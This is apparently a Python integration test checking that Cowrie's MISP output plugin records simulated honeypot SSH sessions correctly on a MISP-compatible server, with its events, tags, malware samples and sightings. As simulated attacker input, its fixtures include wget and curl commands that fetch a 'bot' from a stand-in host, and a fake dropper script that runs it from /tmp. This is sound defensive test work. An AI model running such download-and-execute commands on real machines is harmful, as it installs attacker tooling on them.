"""Cowrie's MISP output plugin, unchanged (cowrie 3.1.4 from PyPI), against ``threatmesh
serve`` on SQLite and PostgreSQL (issue 16).

Cowrie lives in its own venv (``make cowrie-venv``, which ``make test`` runs: Cowrie pins
Twisted, cryptography... exactly, which would downgrade ours). ``cowrie_driver.py`` runs
with that venv's Python, configures the plugin through ``COWRIE_OUTPUT_MISP_*`` as an
operator would, and feeds ``cowrie.output.misp.Output`` the events Cowrie emits for SSH
sessions. The honeypot's key is a dedicated user (Org Admin, so a tag editor, of org
HONEYNET) created with PyMISP; every check is made with PyMISP from this process.

What each part checks:

1. Connect: ``Output()`` connects (PyMISP's getVersion, users/view/me, describeTypes; it
   raises when it cannot) as the Cowrie user, with cowrie 3.1.4 and the pinned PyMISP.
2. A session without a download (failed then successful login, one command) creates one
   event owned by HONEYNET: its title, the ``ip-src`` (to_ids) and summary attributes, the
   ``cowrie-session``, ``cowrie-authentication`` and ``cowrie-commands`` objects (templateless
   objects, every relation and value), and exactly the plugin's tags (MISP taxonomies and
   MITRE ATT&CK galaxy tags, created on the fly: the user is a tag editor).
3. A session that downloads a real file (Cowrie reads ``outfile`` from disk, named by its
   SHA-256) creates its event with the ``malware-sample`` ``<sha256>|<md5>`` whose sample
   PyMISP unpacks (zip, password ``infected``) to the file's bytes, a
   ``cowrie-file-download`` object and the "Ingress Tool Transfer" tag. The plugin sends
   the sample as PyMISP does (a bare file name, ``data`` and ``encrypt``): the server
   makes ``<name>|<md5>`` and stores the zip, as MISP does.
4. A second session downloading the same file: the plugin finds the attribute
   (attributes/restSearch by md5) and adds a sighting with source ``hp-1 (Cowrie)``; that
   session gets its own event.
5. No request got a 5xx.
"""

from __future__ import annotations

import hashlib
import json
import subprocess
from dataclasses import dataclass
from datetime import datetime
from pathlib import Path
from typing import Any

import pytest
from pymisp import MISPAttribute, MISPEvent, MISPOrganisation, MISPUser, PyMISP

from tests.interop.served import ServedInstance, served

ROOT = Path(__file__).resolve().parents[2]
COWRIE_PYTHON = ROOT / ".cache" / "cowrie-venv" / "bin" / "python"
DRIVER = Path(__file__).with_name("cowrie_driver.py")
COWRIE_VERSION = "3.1.4"
SENSOR = "hp-1"
ORG, EMAIL = "HONEYNET", "cowrie@honeynet.test"
SAMPLE = b"#!/bin/sh\n# dropped by the attacker\ncd /tmp && ./bot -c 198.51.100.5\n"
T0, T1 = "2026-12-05T21:00:00.123456Z", "2026-12-05T21:00:02.223456Z"
STANDARD_TAGS = {
    "tlp:white",
    "type:honeypot",
    'honeypot-basic:data-capture="attacks"',
    'honeypot-basic:containment="block"',
    "type:OSINT",
    "cowrie:session",
    'misp-galaxy:mitre-attack-pattern="Valid Accounts - T1078"',
    'misp-galaxy:mitre-attack-pattern="Command and Scripting Interpreter - T1059"',
}
INGRESS_TAG = 'misp-galaxy:mitre-attack-pattern="Ingress Tool Transfer - T1105"'


@dataclass(frozen=True)
class Session:
    """One SSH session on the honeypot: who, what command, which download (if any)."""

    sid: str
    src_ip: str
    command: str
    download: Path | None = None

    @property
    def title(self) -> str:
        """The event title the plugin gives it."""
        downloads = " and 1 Downloads" if self.download else ""
        return (
            f"SSH Successful Login with 1 Commands{downloads} from {self.src_ip} "
            f"(Cowrie Session {self.sid[:8]})"
        )

    def events(self) -> list[dict[str, Any]]:
        """The events Cowrie emits for it (fields as Cowrie 3.1.4 logs them)."""
        base = {"session": self.sid, "src_ip": self.src_ip, "sensor": SENSOR, "timestamp": T0}
        events: list[dict[str, Any]] = [
            {"eventid": "cowrie.session.connect", "dst_ip": "192.0.2.10", "dst_port": 22,
             "src_port": 50022, "protocol": "ssh"},
            {"eventid": "cowrie.client.version", "version": "SSH-2.0-OpenSSH_9.6"},
            {"eventid": "cowrie.login.failed", "username": "root", "password": "admin"},
            {"eventid": "cowrie.login.success", "username": "root", "password": "123456"},
            {"eventid": "cowrie.command.input", "input": self.command},
        ]  # fmt: skip
        if self.download is not None:
            sha256 = hashlib.sha256(self.download.read_bytes()).hexdigest()
            events.append(
                {"eventid": "cowrie.session.file_download", "url": "http://198.51.100.5/bot",
                 "outfile": str(self.download), "shasum": sha256, "destfile": "/tmp/bot"}
            )  # fmt: skip
        closed = {"eventid": "cowrie.session.closed", "duration_ms": 2100, "timestamp": T1}
        return [{**base, **e} for e in [*events, closed]]


def _drive(server: ServedInstance, key: str, sessions: list[Session], tmp: Path) -> Any:
    """Run the plugin over the sessions' events in the Cowrie venv; the driver's report."""
    events = [e for session in sessions for e in session.events()]
    if not COWRIE_PYTHON.exists():
        pytest.fail(f"{COWRIE_PYTHON} is missing: run `make cowrie-venv` (make test does)")
    spec, report = tmp / "events.json", tmp / "report.json"
    spec.write_text(json.dumps({"url": server.url, "key": key, "sensor": SENSOR, "events": events}))
    done = subprocess.run(
        [str(COWRIE_PYTHON), str(DRIVER), str(spec), str(report)],
        cwd=tmp,  # Cowrie reads ./etc/cowrie.cfg and ./cowrie.cfg: there are none here
        capture_output=True,
        text=True,
        timeout=300,
        check=False,
    )
    assert done.returncode == 0, f"the Cowrie driver failed:\n{done.stderr}"
    return json.loads(report.read_text())


def _cowrie_user(admin: PyMISP) -> str:
    """A HONEYNET Org Admin (tag editor) for the honeypot; its key."""
    org = MISPOrganisation()
    org.name = ORG
    created = admin.add_organisation(org, pythonify=True)
    assert isinstance(created, MISPOrganisation), created
    user = MISPUser()
    user.email, user.org_id, user.role_id = EMAIL, created.id, 2
    added = admin.add_user(user)
    assert isinstance(added, dict) and "User" in added, added
    return str(added["User"]["authkey"])


def _events_by_session(admin: PyMISP) -> dict[str, MISPEvent]:
    """Every event on the server, by the Cowrie session (8 characters) in its title."""
    found = {}
    for e in admin.search_index(pythonify=True):
        assert isinstance(e, MISPEvent), e
        assert "(Cowrie Session " in e.info, e.info
        full = admin.get_event(e.id, pythonify=True)
        assert isinstance(full, MISPEvent), full
        found[e.info.rsplit(" ", 1)[1].rstrip(")")] = full
    return found


def _value(attribute: Any) -> str:
    """An attribute's value as a string (PyMISP turns datetime values into datetimes)."""
    v = attribute.value
    return v.isoformat() if isinstance(v, datetime) else str(v)


def _objects(event: MISPEvent) -> dict[str, dict[str, str]]:
    """Each object's name -> {relation: value}."""
    return {o.name: {a.object_relation: _value(a) for a in o.attributes} for o in event.objects}


def _when(cowrie_time: str) -> str:
    return datetime.fromisoformat(cowrie_time.replace("Z", "+00:00")).isoformat()


def _check_session_event(event: MISPEvent, session: Session) -> None:
    """Part 2: what every session event holds, download or not."""
    assert event.info == session.title
    assert event.orgc.name == ORG
    sample_tags = {INGRESS_TAG} if session.download else set()
    assert {t.name for t in event.tags} == STANDARD_TAGS | sample_tags
    sample = ["malware-sample"] if session.download else []
    assert sorted(a.type for a in event.attributes) == ["ip-src", *sample, "text"]
    assert ("ip-src", session.src_ip, True) in {
        (a.type, a.value, a.to_ids) for a in event.attributes
    }
    [summary] = [a.value for a in event.attributes if a.type == "text"]
    assert summary.startswith(f"Cowrie Honeypot Session Summary for {session.sid}\nProtocol: SSH")
    objects = _objects(event)
    assert objects["cowrie-session"] == {
        "id": session.sid, "start-time": _when(T0), "end-time": _when(T1), "duration": "2100",
        "dst-ip": "192.0.2.10", "dst-port": "22",
    }  # fmt: skip
    assert objects["cowrie-authentication"] == {
        "username": "root",
        "authentication-success": "true",
        "attempt-1": "User: root, Password: admin, Success: False",
        "attempt-2": "User: root, Password: 123456, Success: True",
    }
    assert objects["cowrie-commands"] == {
        "summary": "1 commands executed", "command-1": session.command, "timestamp-1": _when(T0),
    }  # fmt: skip
    assert ("cowrie-file-download" in objects) == (session.download is not None)


def _check_download_event(event: MISPEvent, download: Path) -> None:
    """Part 3: the malware sample and the download object."""
    data = download.read_bytes()
    md5 = hashlib.md5(data, usedforsecurity=False).hexdigest()
    [sample] = [a for a in event.attributes if a.type == "malware-sample"]
    assert sample.value == f"{download.name}|{md5}"
    assert sample.to_ids is True
    assert sample.malware_binary is not None and sample.malware_binary.getvalue() == data
    assert _objects(event)["cowrie-file-download"] == {
        "url": "http://198.51.100.5/bot", "filename": download.name, "timestamp": _when(T0),
    }  # fmt: skip


def _sessions_with_one_download(
    server: ServedInstance, admin: PyMISP, key: str, download: Path, tmp: Path
) -> dict[str, MISPEvent]:
    """Parts 1-3: a session without a download, then one with; the events by session."""
    plain = Session("a1b2c3d4e5f6", "203.0.113.7", "uname -a")
    first = Session("0d15ea5e0001", "203.0.113.7", "wget http://198.51.100.5/bot", download)
    report = _drive(server, key, [plain, first], tmp)
    assert (report["cowrie"], report["user"]) == (COWRIE_VERSION, EMAIL)
    assert "errors" not in report["results"][plain.sid], report["results"]
    events = _events_by_session(admin)
    _check_session_event(events[plain.sid[:8]], plain)
    result = report["results"][first.sid]
    assert "errors" not in result, result
    assert set(events) == {plain.sid[:8], first.sid[:8]}
    _check_session_event(events[first.sid[:8]], first)
    _check_download_event(events[first.sid[:8]], download)
    return events


def _same_file_again(
    server: ServedInstance, admin: PyMISP, key: str, sample: MISPAttribute, tmp: Path
) -> None:
    """Part 4: a second session downloads the same file: a sighting and its own event."""
    download = tmp / "downloads" / sample.value.split("|")[0]
    second = Session("0b5e55ed0002", "203.0.113.8", "curl -O http://198.51.100.5/bot", download)
    report = _drive(server, key, [second], tmp)
    assert "MISP: File known, add sighting" in [line["text"] for line in report["log"]]
    sightings = admin.sightings(sample, pythonify=True)
    assert [(s.source, s.type) for s in sightings] == [(f"{SENSOR} (Cowrie)", "0")]
    assert "errors" not in report["results"][second.sid], report["results"]
    events = _events_by_session(admin)
    assert len(events) == 3
    _check_session_event(events[second.sid[:8]], second)
    _check_download_event(events[second.sid[:8]], download)


@pytest.mark.slow
@pytest.mark.parametrize("kind", ["sqlite", "postgresql"])
def test_cowrie_misp_output(kind: str, tmp_path: Path) -> None:
    """Cowrie's plugin creates its session events and sightings (parts 1-5 above)."""
    download = tmp_path / "downloads"
    download.mkdir()
    download /= hashlib.sha256(SAMPLE).hexdigest()  # Cowrie names downloads by SHA-256
    download.write_bytes(SAMPLE)
    with served(kind, tmp_path) as server:
        admin = PyMISP(server.url, server.admin_key, ssl=False, timeout=60)
        key = _cowrie_user(admin)
        events = _sessions_with_one_download(server, admin, key, download, tmp_path)
        [sample] = [a for a in events["0d15ea5e"].attributes if a.type == "malware-sample"]
        _same_file_again(server, admin, key, sample, tmp_path)
        assert server.server_errors() == []  # part 5
